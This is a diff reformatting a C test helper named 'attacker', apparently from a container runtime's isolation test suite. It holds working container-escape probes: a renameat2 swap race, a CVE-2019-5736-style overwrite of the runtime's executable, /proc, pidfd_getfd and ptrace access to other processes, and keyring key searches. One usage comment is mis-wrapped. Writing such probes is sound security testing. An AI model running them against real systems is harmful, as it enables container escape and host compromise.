@@ -2,8 +2,8 @@
 //
 //     attacker swap A B           exchange A and B until standard input ends; then say how often
 //     attacker overwrite SECONDS  write to the executable of whatever process there is, as CVE-2019-5736 does
-//     attacker watch SECONDS      get hold of a process of the runtime's in this pid namespace: one line for each way found
-//     attacker keys NAME          a key of this name that can be read, in any keyring that this process has
+//     attacker watch SECONDS      get hold of a process of the runtime's in this pid namespace: one line for each way
+//     found attacker keys NAME          a key of this name that can be read, in any keyring that this process has
 //     attacker loop               wait to be killed
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -31,8 +31,12 @@ static int swap(const char *a, const char *b) {
   struct timespec pause = {0, 0};
   unsigned long count = 0;
   while (poll(&input, 1, 0) == 0)
-    for (int i = 0; i < 50; i++, count++, pause.tv_nsec = rand() % 200000, nanosleep(&pause, 0))  // the other side is to get on, too
-      if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */)) { perror("renameat2"); return 1; }
+    for (int i = 0; i < 50;
+        i++, count++, pause.tv_nsec = rand() % 200000, nanosleep(&pause, 0)) // the other side is to get on, too
+      if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */)) {
+        perror("renameat2");
+        return 1;
+      }
   if (count % 2) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2);
   printf("%lu\n", count);
   return 0;
@@ -64,15 +68,24 @@ static void try_process(int pid) {
   for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
     snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
     int fd = open(path, !strcmp(names[i], "mem") ? O_RDWR : O_RDONLY);
-    if (fd >= 0) { reached(pid, names[i]); close(fd); }
+    if (fd >= 0) {
+      reached(pid, names[i]);
+      close(fd);
+    }
   }
   int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
   for (int fd = 0; fd < 16; fd++) {
     snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
     int got = open(path, O_RDONLY | O_NONBLOCK);
-    if (got >= 0) { reached(pid, "fd"); close(got); }
+    if (got >= 0) {
+      reached(pid, "fd");
+      close(got);
+    }
     got = (int)syscall(438 /* pidfd_getfd */, pidfd, fd, 0);
-    if (got >= 0) { reached(pid, "pidfd_getfd"); close(got); }
+    if (got >= 0) {
+      reached(pid, "pidfd_getfd");
+      close(got);
+    }
   }
   close(pidfd);
   if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
@@ -85,12 +98,15 @@ static void try_process(int pid) {
 
 static int watch(double seconds) {
   unsigned long tries = 0;
-  for (double end = now() + seconds; now() < end; ) {
+  for (double end = now() + seconds; now() < end;) {
     DIR *proc = opendir("/proc");
     struct dirent *entry;
     while ((entry = readdir(proc))) {
       int pid = atoi(entry->d_name);
-      if (pid > 0 && pid != getpid()) { try_process(pid); tries++; }
+      if (pid > 0 && pid != getpid()) {
+        try_process(pid);
+        tries++;
+      }
     }
     closedir(proc);
   }
@@ -102,7 +118,7 @@ static int watch(double seconds) {
 static int overwrite(double seconds) {
   int held[64], count = 0;
   unsigned long tries = 0;
-  for (double end = now() + seconds; now() < end; ) {
+  for (double end = now() + seconds; now() < end;) {
     DIR *proc = opendir("/proc");
     struct dirent *entry;
     while ((entry = readdir(proc))) {
@@ -115,7 +131,10 @@ static int overwrite(double seconds) {
       exe[n] = 0;
       if (!strstr(exe, "ocirt") && !strstr(exe, "memfd:")) continue;
       int fd = open(path, O_RDONLY);
-      if (fd >= 0 && count < 64) held[count++] = fd; else if (fd >= 0) close(fd);
+      if (fd >= 0 && count < 64)
+        held[count++] = fd;
+      else if (fd >= 0)
+        close(fd);
     }
     closedir(proc);
     for (int i = 0; i < count; i++) {
@@ -134,7 +153,7 @@ static int overwrite(double seconds) {
 }
 
 static int keys(const char *name) {
-  static const long rings[] = {-1, -2, -3, -4, -5};  // thread, process, session, user, user session
+  static const long rings[] = {-1, -2, -3, -4, -5}; // thread, process, session, user, user session
   for (unsigned i = 0; i < 5; i++) {
     char text[256];
     long key = syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, rings[i], "user", name, 0);
@@ -150,6 +169,8 @@ int main(int argc, char **argv) {
   if (argc == 3 && !strcmp(argv[1], "overwrite")) return overwrite(atof(argv[2]));
   if (argc == 3 && !strcmp(argv[1], "watch")) return watch(atof(argv[2]));
   if (argc == 3 && !strcmp(argv[1], "keys")) return keys(argv[2]);
-  if (argc == 2 && !strcmp(argv[1], "loop")) for (;;) pause();
+  if (argc == 2 && !strcmp(argv[1], "loop"))
+    for (;;)
+      pause();
   return 2;
 }
